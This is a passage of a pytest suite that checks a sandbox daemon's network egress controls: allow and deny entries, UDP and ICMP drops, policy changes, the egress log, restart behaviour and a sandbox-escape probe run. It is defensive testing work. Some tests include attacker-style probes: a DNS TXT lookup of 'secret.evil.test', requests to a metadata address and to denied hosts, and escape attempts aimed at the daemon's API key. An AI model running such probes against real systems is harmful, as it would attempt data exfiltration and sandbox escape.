    assert {e.local_ip for e in datagrams} == {fn.A_TEST, fn.NAMELESS}, datagrams
    assert all(e.peer.startswith(fn.HOST_ADDRESS + ":") for e in datagrams), datagrams
    # DNS still goes to bulkhead's resolver, whatever server the sandbox names.
    outcome = box.probe("dns", "9.9.9.9", "a.test", "A", "udp")
    assert outcome["ok"] and outcome["answers"] == 1, outcome


def test_open_drops_udp_and_icmp_to_denied_ranges_the_host_and_other_sandboxes(make_box, fakenet, udp_bait):
    box, neighbour = make_box("open", []), make_box("open", [])
    bait_port, received = udp_bait
    _, gateway = open_link(box)
    neighbour_address, _ = open_link(neighbour)
    mark = fakenet.mark()
    for address in (fn.LAN_HOST, fn.METADATA, fn.HOST_ADDRESS, gateway, neighbour_address,
                    fn.A_TEST6, fn.OTHER_TEST6):
        port = bait_port if address in (fn.HOST_ADDRESS, gateway) else fn.UDP_ECHO_PORT
        outcome = box.probe("udp", address, port)
        assert not outcome["ok"], (address, outcome)
        if ":" not in address:
            assert not box.probe("ping", address)["ok"], address
    # An address entry re-opens a denied range for TCP only: UDP there stays dropped.
    box.network("open", [fn.LAN_HOST])
    assert not box.probe("udp", fn.LAN_HOST, fn.UDP_ECHO_PORT)["ok"]
    settle()
    assert fakenet.events_since(mark, ("udp", "metadata")) == []
    assert received() == []


def test_open_link_follows_the_mode_and_the_sandbox(make_box, fakenet, net_client):
    box = make_box("allowlist", ["a.test"])
    before = set(host_links(fakenet))
    assert open_link(box) is None and not box.probe("udp", fn.A_TEST, fn.UDP_ECHO_PORT)["ok"]
    for _ in range(2):
        box.network("open")
        assert open_link(box) is not None and box.probe("udp", fn.A_TEST, fn.UDP_ECHO_PORT)["ok"]
        assert len(set(host_links(fakenet)) - before) == 1
        box.network("open", [fn.LAN_HOST])  # only the policy changes: the link stays as it is
        assert box.probe("udp", fn.A_TEST, fn.UDP_ECHO_PORT)["ok"]
        box.network("allowlist", ["a.test"])
        assert open_link(box) is None and not box.probe("udp", fn.A_TEST, fn.UDP_ECHO_PORT)["ok"]
        assert set(host_links(fakenet)) == before
        # TCP through the proxy is unaffected by the link coming and going.
        assert box.curl("http://a.test/")["exit_code"] == 0
    box.network("open")
    box.network("none")
    assert open_link(box) is None and set(host_links(fakenet)) == before
    box.network("open")
    assert box.probe("udp", fn.A_TEST, fn.UDP_ECHO_PORT)["ok"]
    net_client.remove(box.id)
    assert wait_until(lambda: set(host_links(fakenet)) == before, timeout=10), host_links(fakenet)


# ---------------------------------------------------------------- deny entries

def denied_by(box: Box, entry: str, **want) -> list[dict]:
    """The egress log's denials whose reason names deny entry `entry`, with the fields in `want`."""
    return [e for e in box.egress() if e["verdict"] == "denied" and e["reason"].endswith(f'is denied by deny entry "{entry}"')
            and all(e.get(k) == v for k, v in want.items())]


def dns_queries(net, mark, *names) -> list[str]:
    """The lookups of `names` that reached fakenet's DNS server since `mark`."""
    return [str(e) for e in net.events_since(mark, ("dns",)) if e.kind == "query" and e.detail.split(" ")[0] in names]


def test_allowlist_deny_entries_win_over_broader_allow_entries(make_box, fakenet):
    box = make_box("allowlist", ["*.test", "a.test", "198.18.0.0/24"], deny=["other.test", "*.b.test", fn.NAMELESS])
    for extra in ([], NOPROXY):
        result = box.curl(*extra, "http://a.test/")
        assert result["exit_code"] == 0 and result["body"] in hello("a.test", A_VIA), result
        result = box.curl(*extra, f"http://{fn.B_TEST}/")  # www.b.test's address, allowed as an address
        assert result["exit_code"] == 0 and result["body"] in hello(fn.B_TEST, fn.B_TEST), result
    mark = fakenet.mark()
    for argv in ([*CURL, "http://other.test/"], [*CURL, *CACERT, "https://other.test/"], [*CURL, *NOPROXY, "http://other.test/"],
                 [*CURL, "http://www.b.test/"], [*CURL, *NOPROXY, "http://www.b.test/"],
                 [*CURL, f"http://{fn.NAMELESS}/"], [*CURL, *NOPROXY, f"http://{fn.NAMELESS}/"]):
        assert_blocked(box, fakenet, argv)
    # Its address is allowed, so the proxy may connect at once; the name it carries is denied,
    # and not a byte reaches the server.
    for argv in ([*CURL, *NOPROXY, "--resolve", f"other.test:80:{fn.OTHER_TEST}", "http://other.test/"],
                 [*CURL, *NOPROXY, *CACERT, "--resolve", f"other.test:443:{fn.OTHER_TEST}", "https://other.test/"]):
        assert_blocked(box, fakenet, argv, level="data")
    # The resolver does not look a denied name up.
    for name in ("other.test", "www.b.test"):
        assert box.probe("dns", harness.PROXY_HOST, name, "A", "udp")["rcode"] == 3, name
    settle()
    assert dns_queries(fakenet, mark, "other.test", "www.b.test") == []
    # The log names the rule.
    assert denied_by(box, "other.test", protocol="tcp", name="other.test", port=80), box.egress()
    assert denied_by(box, "other.test", protocol="dns", name="other.test"), box.egress()
    assert denied_by(box, "*.b.test", protocol="tcp", name="www.b.test"), box.egress()
    assert denied_by(box, fn.NAMELESS, protocol="tcp", address=fn.NAMELESS, port=80), box.egress()


def test_open_deny_entries_close_tcp_dns_udp_and_icmp(make_box, fakenet):
    box = make_box("open", [], deny=["other.test", fn.B_TEST, f"{fn.NAMELESS}:{fn.UDP_ECHO_PORT}"])
    assert box.client.sandbox(box.id)["network"] == {
        "mode": "open", "allow": [], "deny": ["other.test", fn.B_TEST, f"{fn.NAMELESS}:{fn.UDP_ECHO_PORT}"]}
    for extra in ([], NOPROXY):
        result = box.curl(*extra, "http://a.test/")
        assert result["exit_code"] == 0 and result["body"] in hello("a.test", A_VIA), result
        result = box.curl(*extra, f"http://{fn.NAMELESS}/")  # only its UDP echo port is denied
        assert result["exit_code"] == 0 and result["body"] in hello(fn.NAMELESS, fn.NAMELESS), result
    mark = fakenet.mark()
    for argv in ([*CURL, "http://other.test/"], [*CURL, *NOPROXY, "http://other.test/"],
                 [*CURL, "http://b.test/"], [*CURL, *NOPROXY, "http://b.test/"],
                 [*CURL, f"http://{fn.B_TEST}/"], [*CURL, *NOPROXY, f"http://{fn.B_TEST}/"]):
        assert_blocked(box, fakenet, argv)
    for argv in ([*CURL, *NOPROXY, "--resolve", f"other.test:80:{fn.OTHER_TEST}", "http://other.test/"],
                 [*CURL, *NOPROXY, *CACERT, "--resolve", f"other.test:443:{fn.OTHER_TEST}", "https://other.test/"]):
        assert_blocked(box, fakenet, argv, level="data")
    # A denied name is not looked up; a name whose address is denied is.
    assert box.probe("dns", harness.PROXY_HOST, "other.test", "A", "udp")["rcode"] == 3
    assert box.probe("resolve", "b.test")["addresses"] == [fn.B_TEST]
    settle()
    assert dns_queries(fakenet, mark, "other.test") == []
    # UDP and ICMP over the open link: an address entry drops them, one with a port only UDP there.
    assert box.probe("udp", fn.A_TEST, fn.UDP_ECHO_PORT)["ok"] and box.probe("ping", fn.A_TEST)["ok"]
    assert box.probe("ping", fn.NAMELESS)["ok"]
    mark = fakenet.mark()
    for address in (fn.B_TEST, fn.NAMELESS):
        assert not box.probe("udp", address, fn.UDP_ECHO_PORT)["ok"], address
    assert not box.probe("ping", fn.B_TEST)["ok"]
    settle()
    assert [str(e) for e in fakenet.events_since(mark, ("udp",)) if e.kind == "datagram"] == []
    assert denied_by(box, "other.test", protocol="dns", name="other.test"), box.egress()
    assert denied_by(box, fn.B_TEST, protocol="tcp", address=fn.B_TEST, port=80), box.egress()

    # A new policy moves the UDP denial too.
    box.network("open", deny=[fn.A_TEST])
    assert not box.probe("udp", fn.A_TEST, fn.UDP_ECHO_PORT)["ok"] and not box.probe("ping", fn.A_TEST)["ok"]
    assert box.probe("udp", fn.B_TEST, fn.UDP_ECHO_PORT)["ok"] and box.probe("ping", fn.B_TEST)["ok"]
    assert box.curl(f"http://{fn.B_TEST}/")["exit_code"] == 0
    assert_blocked(box, fakenet, [*CURL, f"http://{fn.A_TEST}/"])


# ---------------------------------------------------------------- PUT .../network

def start_stream(box: Box, name: str, transparent: bool) -> int:
    flags = "--noproxy '*' " if transparent else ""
    cmd = f"exec curl -sS -N {flags}http://a.test/slow?seconds=600 -o /workspace/{name}"
    r = box.client.post(f"/v1/sandboxes/{box.id}/processes", {"cmd": cmd, "tag": name})
    assert r.status == 201, r
    return r.json()["pid"]


def process_state(box: Box, pid: int) -> dict:
    r = box.client.get(f"/v1/sandboxes/{box.id}/processes/{pid}")
    assert r.status == 200, r
    return r.json()


def test_changing_the_policy_cuts_connections_it_no_longer_allows(make_box, fakenet, net_client):
    box = make_box("allowlist", ["a.test"])
    mark = fakenet.mark()
    pids = {name: start_stream(box, name, transparent=(name == "transparent")) for name in ("explicit", "transparent")}
    streaming = lambda: len([e for e in fakenet.events_since(mark, ("http",))  # noqa: E731
                             if e.kind == "request" and "/slow" in e.detail]) == 2
    assert wait_until(streaming, timeout=30), fakenet.events_since(mark)
    for name in pids:
        assert wait_until(lambda: "tick 3" in box.run(["cat", f"/workspace/{name}"])["stdout"], timeout=30)

    box.network("allowlist", ["www.b.test"])
    changed = time.monotonic()
    assert net_client.sandbox(box.id)["network"] == {"mode": "allowlist", "allow": ["www.b.test"], "deny": []}
    ended = lambda: all(process_state(box, pid)["state"] == "exited" for pid in pids.values())  # noqa: E731
    assert wait_until(ended, timeout=30, interval=0.05), [process_state(box, pid) for pid in pids.values()]
    print(f"\nstreams ended {time.monotonic() - changed:.2f} s after PUT .../network returned")
    for pid in pids.values():
        assert process_state(box, pid)["exit_code"] != 0
    # The server saw both streams end early too.
    cut = lambda: [e for e in fakenet.events_since(mark, ("http",)) if e.kind == "stream-end"]  # noqa: E731
    assert wait_until(lambda: len(cut()) == 2, timeout=30), fakenet.events_since(mark)
    assert all(e.detail.startswith("error") for e in cut()), cut()

    assert_blocked(box, fakenet, [*CURL, "http://a.test/"])
    assert_blocked(box, fakenet, [*CURL, *NOPROXY, f"http://{fn.A_TEST}/"])
    result = box.curl(*CACERT, "https://www.b.test/")
    assert result["exit_code"] == 0 and result["body"] in hello("www.b.test", fn.B_TEST), result

    cut_entries = [e for e in box.egress() if e["reason"] and "policy" in e["reason"]]
    assert len(cut_entries) == 2 and {e["name"] for e in cut_entries} == {"a.test"}, box.egress()

    box.network("none")
    assert_blocked(box, fakenet, [*CURL, *CACERT, "https://www.b.test/"])
    box.network("allowlist", ["a.test"])
    for extra in ([], NOPROXY):
        result = box.curl(*extra, "http://a.test/")
        assert result["exit_code"] == 0 and result["body"] in hello("a.test", A_VIA), result


def test_put_network_rejects_bad_input(make_box, net_client):
    box = make_box("allowlist", ["a.test"])
    path = f"/v1/sandboxes/{box.id}/network"
    for body in ({"mode": "everything"}, {"mode": "allowlist", "allow": "a.test"}, {"mode": "allowlist", "allow": [1]},
                 {"mode": "allowlist", "allow": ["*"]}, {"mode": "allowlist", "allow": ["a..test"]},
                 {"mode": "allowlist", "allow": ["10.0.0.0/33"]}, {"mode": "allowlist", "allow": ["a.test:99999"]},
                 {"mode": "none", "allow": ["a.test"]}, {"mode": "open", "allow": ["a.test"]},
                 {"mode": "none", "deny": ["a.test"]}, {"mode": "open", "deny": ["*"]}, {"mode": "open", "deny": "a.test"},
                 {"mode": "open", "deny": [1]}, {"mode": "allowlist", "deny": ["10.0.0.0/33"]}, [], "x"):
        assert_error_shape(net_client.request("PUT", path, body), (400, 422))
    assert_error_shape(net_client.request("PUT", path, b"{", headers={"Content-Type": "application/json"}), (400, 422))
    assert_error_shape(net_client.request("PUT", "/v1/sandboxes/nosuchsandbox0000000/network",
                                          {"mode": "none", "allow": []}), 404)
    assert net_client.sandbox(box.id)["network"] == {"mode": "allowlist", "allow": ["a.test"], "deny": []}


# ---------------------------------------------------------------- GET .../egress

RFC3339_MS = r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z"


def test_egress_log_lists_allowed_and_denied_with_names_addresses_ports_and_bytes(make_box, fakenet, net_client):
    box = make_box("allowlist", ["a.test"])
    assert box.egress() == []
    assert box.curl("-o", "/dev/null", "http://a.test/bytes?n=100000")["exit_code"] == 0
    assert box.curl(*NOPROXY, *CACERT, "https://a.test/")["exit_code"] == 0
    assert box.curl("http://other.test/")["exit_code"] != 0
    assert box.curl(*NOPROXY, "--resolve", f"other.test:80:{fn.OTHER_TEST}", "http://other.test/")["exit_code"] != 0
    assert box.probe("dns", harness.PROXY_HOST, "secret.evil.test", "TXT", "udp")["rcode"] == 3
    assert box.probe("dns", harness.PROXY_HOST, "a.test", "A", "udp")["rcode"] == 0

    entries = box.egress()
    fields = {"time", "protocol", "name", "address", "port", "query_type", "verdict", "reason", "bytes_out",
              "bytes_in", "duration_ms", "open"}
    for e in entries:
        assert set(e) >= fields, e
        assert re.fullmatch(RFC3339_MS, e["time"]), e
        assert e["protocol"] in ("tcp", "dns") and e["verdict"] in ("allowed", "denied"), e
        assert isinstance(e["port"], int) and isinstance(e["bytes_in"], int) and isinstance(e["bytes_out"], int), e
        assert (e["reason"] is None) == (e["verdict"] == "allowed") or "policy" in (e["reason"] or ""), e
    assert [e["time"] for e in entries] == sorted(e["time"] for e in entries), "oldest first"

    def find(**want):  # a tuple value = any of these
        return [e for e in entries
                if all(e.get(k) in v if isinstance(v, tuple) else e.get(k) == v for k, v in want.items())]

    download = find(protocol="tcp", verdict="allowed", name="a.test", address=A_VIA, port=80)
    assert download and max(e["bytes_in"] for e in download) >= 100000, entries
    assert all(e["bytes_out"] > 0 and not e["open"] for e in download), download
    assert find(protocol="tcp", verdict="allowed", name="a.test", address=A_VIA, port=443), entries
    assert find(protocol="tcp", verdict="denied", name="other.test", port=80), entries
    assert find(protocol="tcp", verdict="denied", address=fn.OTHER_TEST, port=80), entries
    denied_dns = find(protocol="dns", verdict="denied", name="secret.evil.test", query_type="TXT")
    assert denied_dns and denied_dns[0]["reason"], entries
    assert find(protocol="dns", verdict="allowed", name="a.test", query_type="A"), entries
    assert all(e["bytes_in"] == 0 and e["bytes_out"] == 0 for e in find(verdict="denied", protocol="tcp")), entries

    # A connection still open is listed last, with its bytes so far.
    pid = start_stream(box, "open-stream", transparent=False)
    assert wait_until(lambda: "tick 3" in box.run(["cat", "/workspace/open-stream"])["stdout"], timeout=30)
    latest = box.egress()
    assert latest[-1]["open"] is True and latest[-1]["name"] == "a.test" and latest[-1]["bytes_in"] > 0, latest[-3:]
    r = box.client.post(f"/v1/sandboxes/{box.id}/processes/{pid}/signal", {"signal": "SIGKILL"})
    assert r.status in (200, 204), r

    assert len(box.egress("limit=2")) == 2
    for bad in ("limit=abc", "limit=-1"):
        assert_error_shape(net_client.get(f"/v1/sandboxes/{box.id}/egress?{bad}"), (400, 422))
    assert_error_shape(net_client.get("/v1/sandboxes/nosuchsandbox0000000/egress"), 404)


# ---------------------------------------------------------------- daemon restart

def test_policy_holds_across_a_daemon_kill_and_restart(net_daemon_factory, fakenet):
    daemon = net_daemon_factory()
    daemon.start()
    client = daemon.client()
    sandbox_id = client.create(network={"mode": "allowlist", "allow": ["a.test"]})["id"]
    prepare(client, sandbox_id, fakenet)
    box = Box(client, sandbox_id, ["a.test"])
    open_id = client.create(network={"mode": "open"})["id"]
    prepare(client, open_id, fakenet)
    open_box = Box(client, open_id, [], mode="open")
    assert open_box.probe("udp", fn.A_TEST, fn.UDP_ECHO_PORT)["ok"]
    links = host_links(fakenet)
    assert box.curl("http://a.test/")["exit_code"] == 0
    before = box.egress()
    # Hammer other.test, by name and by address, before, during and after the restart.
    loop = ("while :; do curl -s -m 2 http://other.test/; curl -s -m 2 --noproxy '*' --resolve other.test:80:198.18.0.12 "
            "http://other.test/; curl -s -m 2 --noproxy '*' http://198.18.0.12/; echo round >> /workspace/rounds; "
            "sleep 0.1; done")
    r = client.post(f"/v1/sandboxes/{sandbox_id}/processes", {"cmd": loop})
    assert r.status == 201, r
    mark = fakenet.mark()

    daemon.stop(signal.SIGKILL)
    time.sleep(1)  # the loop keeps trying while no daemon runs (connections refused: fail closed)
    daemon.start()
    client = daemon.client()
    box.client = open_box.client = client
    # The open sandbox's link was made again, and the old one is gone.
    assert open_box.probe("udp", fn.A_TEST, fn.UDP_ECHO_PORT)["ok"]
    assert len(host_links(fakenet)) == len(links), (links, host_links(fakenet))

    for extra in ([], NOPROXY):
        result = box.curl(*extra, *CACERT, "https://a.test/")
        assert result["exit_code"] == 0 and result["body"] in hello("a.test", A_VIA), result
    for argv in ([*CURL, "http://other.test/"], [*CURL, *NOPROXY, f"http://{fn.OTHER_TEST}/"],
                 [*CURL, *NOPROXY, f"http://{fn.METADATA}/"], [*CURL, *NOPROXY, "-k", f"https://{fn.OTHER_TEST}/"]):
        assert_blocked(box, fakenet, argv)
    rounds = box.run(["wc", "-l", "/workspace/rounds"])["stdout"]
    assert int(rounds.split()[0]) >= 2, rounds
    assert [str(e) for e in fakenet.events_since(mark, SERVER_LOGS) if e.local_ip == fn.OTHER_TEST] == []
    # The log survived the restart.
    after = box.egress()
    assert [e["time"] for e in after[:len(before)]] == [e["time"] for e in before], (before, after)
    client.remove(sandbox_id)
    client.remove(open_id)


# ---------------------------------------------------------------- the probe suite

REPO_ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("mode", ["allowlist", "open"])
def test_escape_probe_suite_passes_with_network(make_box, net_daemon, fakenet, escape_binary, mode):
    box = make_box(mode, ALLOW if mode == "allowlist" else [], pids=256, memory_mb=256, disk_mb=128)
    box.client.upload(box.id, "/workspace/escape", escape_binary.read_bytes())
    # Bait in the daemon's namespace: a loopback TCP port and an abstract unix socket.
    tcp = fn.socket_in_netns(fakenet.host_ns)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    abstract_name = f"bulkhead-probe-{uuid.uuid4().hex[:12]}"
    unix = fn.socket_in_netns(fakenet.host_ns, socket.AF_UNIX)
    unix.bind("\0" + abstract_name)
    unix.listen(8)
    try:
        argv = ["/workspace/escape", "--tier", harness.RUNTIME, "--net", mode, "--max-pids", "256", "--mem-mb", "256", "--disk-mb", "128",
                "--disk-dir", "/workspace", "--host-port", str(tcp.getsockname()[1]),
                "--host-abstract", abstract_name,
                "--forbid", str(net_daemon.state_dir), "--forbid", str(net_daemon.state_dir / "api-key"),
                "--forbid", str(REPO_ROOT), "--forbid", "/run/bulkhead", "--forbid", str(fakenet.workdir)]
        result = box.client.exec(box.id, argv, timeout_s=240, timeout=300)
    finally:
        tcp.close()
        unix.close()
    report = f"exit={result['exit_code']} signal={result['signal']}\n--- stdout\n{result['stdout']}\n" \
             f"--- stderr\n{result['stderr']}"
    lines = result["stdout"].strip().splitlines()
    assert lines and result["exit_code"] == 0 and lines[-1].endswith(" 0 failed"), report
    assert "FAIL " not in result["stdout"], report
